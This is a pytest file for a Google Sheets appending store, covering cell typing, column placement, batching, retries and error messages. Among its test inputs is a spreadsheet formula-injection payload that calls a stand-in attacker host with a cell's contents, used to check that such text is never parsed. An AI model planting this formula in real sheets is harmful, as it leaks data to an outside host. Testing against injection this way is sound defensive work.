import datetime as dt

import pytest

from components.domain.cells import Cell
from components.storage import KeyTaken, NotWritable, Row, StoreUnreachable, TableMismatch
from components.storage.sheets import appending
from tests.storage.a_store import a_call
from tests.storage.sheets.conftest import Serve
from tests.storage.sheets.served import Served, workbook

HEADER = ["ID", "Held on", "Customer", "Person", "Notes"]
LOST = ["500", "502", "503", "cut", "hang"]
APPLIED = [f"{fault}-after" for fault in LOST] + ["cut-midway", "html-after"]


def calls(serve: Serve, fault: str = "") -> Served:
    return serve({"Calls": [HEADER, ["c0", "2026-11-01", "Bolt"]]}, fault=fault)


def ids(served: Served) -> list[Cell]:
    return [row[0] for row in served.sees("Calls!A2:A")]


# --- what is written ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=IMPORTXML("http://evil.test?"&A1,"//x")',
        "+1",
        "-1",
        "@x",
        "'x",
        "007",
        "1e5",
        "3/4",
        "TRUE",
    ],
)
def test_text_stays_text_and_is_never_parsed(serve: Serve, text: str) -> None:
    served = calls(serve)
    served.store().append({"Calls": [a_call(id=text, customer=text, notes=text, Mood=text)]})
    cells = [served.control.cell(served.key, f"Calls!{column}3") for column in "ACEF"]
    assert [cell["userEnteredValue"] for cell in cells] == [{"stringValue": text}] * 4
    row = workbook(served.store())["Calls"].loc[3]
    assert (row["id"], row["customer"], row["notes"]) == (text, text, text)


def test_people_see_days_shares_and_money_as_such(serve: Serve) -> None:
    served = serve()
    at = dt.datetime(2026, 11, 23, 9, 30, tzinfo=dt.UTC)
    served.store().append(
        {
            "Decisions": [{"id": "d1", "decided_at": at, "decision": "Go", "due_on": "2026-12-01"}],
            "Roadmap": [
                {"id": "r1", "item": "Speed", "confidence": "85%", "reach": 1200},
                {"id": "r2", "item": "Depth", "confidence": 12.5, "actual_annual_value": "€12.5"},
            ],
        }
    )  # fmt: skip
    header, row = served.sees("Decisions", "FORMATTED_VALUE")
    shown = dict(zip(header, row, strict=False))
    assert (shown["Decided at"], shown["Due on"]) == ("2026-11-23 09:30:00Z", "2026-12-01")
    header, *rows = served.sees("Roadmap", "FORMATTED_VALUE")
    first, second = (dict(zip(header, row, strict=False)) for row in rows)
    assert (first["Confidence"], first["Reach"]) == ("85%", "1200")
    assert (second["Confidence"], second["Actual annual value"]) == ("12.5%", "12.5")
    stored = dict(zip(header, served.sees("Roadmap")[1], strict=False))
    assert (stored["Confidence"], stored["Reach"]) == (0.85, 1200)


def test_a_level_below_people_s_percentages_does_not_turn_into_one(serve: Serve) -> None:
    header = ["ID", "Asked on", "Customer", "Capability", "Level", "Answer"]
    served = serve({"Trade-offs": [header]}, is_typed=True)
    served.control.set_format(served.key, "Trade-offs!E2:E10", "PERCENT")
    answer = {"asked_on": "2026-11-02", "customer": "A", "capability": "Speed", "answer": "no"}
    served.store().append({"Trade-offs": [{"id": "t1", "level": 0.5, **answer}]})
    assert workbook(served.store())["Trade-offs"]["level"].loc[2] == 0.5


@pytest.mark.parametrize("day", ["1950-01-01", "2150-12-31"])
def test_a_day_that_no_serial_number_is_read_for_is_written_as_text(serve: Serve, day: str) -> None:
    served = calls(serve)
    served.store().append({"Calls": [a_call(held_on=day)]})
    assert served.sees("Calls!B3") == [[day]]
    assert str(workbook(served.store())["Calls"]["held_on"].loc[3].date()) == day


# --- where it is written --------------------------------------------------------------------


def test_cells_go_under_their_headers_wherever_these_are(serve: Serve) -> None:
    header = ["", "notes", "Mood", "CUSTOMER", "held-on", "Id"]
    served = serve({"Calls": [[], header, ["", "x"], [], ["", "", "", "A", "2026-11-01"]]})
    served.store().append({"Calls": [a_call(notes="new", Mood="sunny", person=None)]})
    assert served.sees("Calls!A6:F6") == [["", "new", "sunny", "Acme", 46328, "c1"]]


def test_a_column_that_a_row_needs_is_added_to_the_right(serve: Serve) -> None:
    served = serve({"Calls": [["ID", "Held on", "Customer"], ["c0", 46327, "Bolt", "beside"]]})
    served.store().append({"Calls": [a_call(disappointment="very", **{"Mood, today": "sunny"})]})
    assert served.sees("Calls!1:1") == [
        ["ID", "Held on", "Customer", "", "Person", "Disappointment", "Mood, today"]
    ]
    assert served.sees("Calls!3:3") == [["c1", 46328, "Acme", "", "Ann", "very", "sunny"]]
    assert served.sees("Calls!2:2") == [["c0", 46327, "Bolt", "beside"]]


def test_a_grid_that_is_too_narrow_is_widened_first(serve: Serve) -> None:
    served = serve({"Calls": [["Held on", "Customer", *(f"Extra {n}" for n in range(24))]]})
    served.store().append({"Calls": [a_call()]})
    assert served.sees("Calls!AA1:AB2") == [["ID", "Person"], ["c1", "Ann"]]


def test_rows_go_below_the_last_row_even_if_the_grid_must_grow(serve: Serve) -> None:
    rows = [["", "2026-11-01", "Bolt"] for _ in range(999)]
    served = serve({"Calls": [HEADER, *rows]})
    served.store().append({"Calls": [a_call(id=f"c{n}") for n in range(3)]})
    assert [row[0] for row in served.sees("Calls!A1001:A")] == ["c0", "c1", "c2"]


def test_a_tab_that_is_there_without_anything_in_it_is_set_up(serve: Serve) -> None:
    served = serve({"calls": []})
    served.store().append({"Calls": [a_call()]})
    assert served.control.tabs(served.key) == ["calls"]
    assert list(workbook(served.store())["Calls"]["id"]) == ["c1"]


def test_a_tab_whose_first_row_is_no_header_is_refused(serve: Serve) -> None:
    served = serve({"Calls": [["Our calls, please keep tidy"], HEADER]})
    with pytest.raises(TableMismatch, match="its header has no Held on, Customer") as caught:
        served.store().append({"Calls": [a_call()]})
    assert "Add a column titled Held on, Customer" in str(caught.value.next_step)
    assert served.writes() == 0


def test_a_cell_longer_than_google_takes_is_refused_before_it_is_sent(serve: Serve) -> None:
    served = calls(serve)
    with pytest.raises(TableMismatch, match=r"50,001 characters; a Google Sheet takes 50,000"):
        served.store().append({"Calls": [a_call(notes="x" * 50_001)]})
    assert served.writes() == 0


def test_a_call_and_its_answers_are_one_batch(serve: Serve) -> None:
    served = serve()
    answer: Row = {"asked_on": "2026-11-02", "customer": "Acme", "capability": "Speed"}
    rows: list[Row] = [{"id": f"t{n}", "level": n, "answer": "no", **answer} for n in range(3)]
    served.store().append({"Calls": [a_call()], "Trade-offs": rows})
    assert served.writes() == 1
    assert set(served.control.tabs(served.key)) == {"Sheet1", "Calls", "Trade-offs"}


def test_more_than_one_batch_can_hold_goes_in_several(
    serve: Serve, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(appending, "MOST_CELLS", 100)
    served = calls(serve)
    figures: list[Row] = [{"week_of": "2026-11-02", "metric": "Revenue", "value": 7}] * 30
    rows = {"Calls": [a_call(id=f"n{n}") for n in range(20)], "Outcomes": figures}
    served.store().append(rows)
    assert served.writes() > 4
    assert len(served.sees("Calls!A2:A")) == 21
    assert len(served.sees("Outcomes!A2:A")) == 30


def test_a_tab_that_another_program_makes_meanwhile_is_used(serve: Serve) -> None:
    served = serve()
    one, other = served.store(), served.store()
    one.read()
    other.read()
    one.append({"Calls": [a_call(id="c1")]})
    other.append({"Calls": [a_call(id="c2")]})
    assert served.control.tabs(served.key) == ["Sheet1", "Calls"]
    assert ids(served) == ["c1", "c2"]


# --- when the answer is lost ----------------------------------------------------------------


@pytest.mark.parametrize("fault", LOST)
def test_rows_that_did_not_arrive_are_sent_again(serve: Serve, fault: str) -> None:
    served = calls(serve, fault)
    store = served.store()
    store.read()
    served.control.fault(f"{fault}:on=write,times=2")
    store.append({"Calls": [a_call(id="c1")]})
    assert ids(served) == ["c0", "c1"]
    assert served.writes() == (1 if fault == "hang" else 3)  # what hangs is counted at its end


@pytest.mark.parametrize("fault", APPLIED)
@pytest.mark.parametrize("has_id", [True, False], ids=["id", "no id"])
def test_rows_that_arrived_are_not_sent_again(serve: Serve, fault: str, *, has_id: bool) -> None:
    served = calls(serve, fault)
    store = served.store()
    store.read()
    served.control.fault(f"{fault}:on=write")
    store.append({"Calls": [a_call(id="c1" if has_id else None)]})
    assert [row[2] for row in served.sees("Calls!A2:E")] == ["Bolt", "Acme"]
    assert served.writes() == (0 if fault == "hang-after" else 1)


def test_a_row_whose_answer_was_lost_is_found_though_somebody_has_edited_it(serve: Serve) -> None:
    served = calls(serve)
    store = served.store()
    store.read()
    typing = "person:on=values.batchGet,after=1,do=type,at=Calls!E3,text=typed"
    served.control.fault(f"503-after:on=write;{typing}")
    store.append({"Calls": [a_call(id="c1")]})
    assert served.sees("Calls!A3:E") == [["c1", 46328, "Acme", "Ann", "typed"]]


def test_the_same_call_again_after_an_outage_adds_what_is_missing(serve: Serve) -> None:
    served = calls(serve)
    store = served.store()
    store.read()
    served.control.fault("503-after:on=write,times=always;503:on=read,after=1,times=always")
    with pytest.raises(StoreUnreachable) as caught:
        store.append({"Calls": [a_call(id="c1")]})
    assert str(caught.value.next_step).startswith("Try again in a minute; what was typed is kept.")
    served.control.clear_faults()
    store.append({"Calls": [a_call(id="c1"), a_call(id="c2")]})
    assert ids(served) == ["c0", "c1", "c2"]


def test_after_four_tries_it_is_told(serve: Serve) -> None:
    served = calls(serve)
    store = served.store()
    store.read()
    served.control.fault("503:on=write,times=always")
    with pytest.raises(StoreUnreachable, match="a fault of its own"):
        store.append({"Calls": [a_call(id="c1")]})
    assert served.writes() == 4
    assert ids(served) == ["c0"]


def test_a_refused_write_waits_for_the_rest_of_the_minute(serve: Serve) -> None:
    served = calls(serve)
    served.control.freeze()
    store = served.store()
    store.read()
    served.control.advance(20)
    served.control.fault("429:on=write,seconds=40")
    store.append({"Calls": [a_call(id="c1")]})
    (wait,) = served.waits
    assert 60 <= wait <= 75
    assert ids(served) == ["c0", "c1"]


def test_a_long_refusal_is_told_and_nothing_is_written(serve: Serve) -> None:
    served = calls(serve)
    served.control.freeze()
    store = served.store()
    served.control.fault("429:on=write,seconds=1000")
    with pytest.raises(StoreUnreachable, match="limit of requests a minute is used up"):
        store.append({"Calls": [a_call(id="c1")]})
    assert ids(served) == ["c0"]


def test_a_protected_tab_says_whom_to_let_in(serve: Serve) -> None:
    served = calls(serve)
    served.control.protect(served.key, "Calls")
    with pytest.raises(NotWritable, match="a protected range keeps robot@example") as caught:
        served.store().append({"Calls": [a_call()], "Team": [{"name": "Ann"}]})
    assert "Ask the Sheet's owner to add robot@example" in str(caught.value.next_step)
    assert "Team" not in served.control.tabs(served.key)


def test_a_renamed_tab_is_found_again_by_its_number(serve: Serve) -> None:
    served = calls(serve)
    store = served.store()
    store.read()
    served.control.rename_tab(served.key, "Calls", "CALLS")
    store.append({"Calls": [a_call(id="c1")]})
    assert [row[0] for row in served.sees("CALLS!A2:A")] == ["c0", "c1"]


def test_an_id_with_other_content_is_refused(serve: Serve) -> None:
    served = calls(serve)
    with pytest.raises(KeyTaken, match="c0 is already there"):
        served.store().append({"Calls": [a_call(id="c0")]})
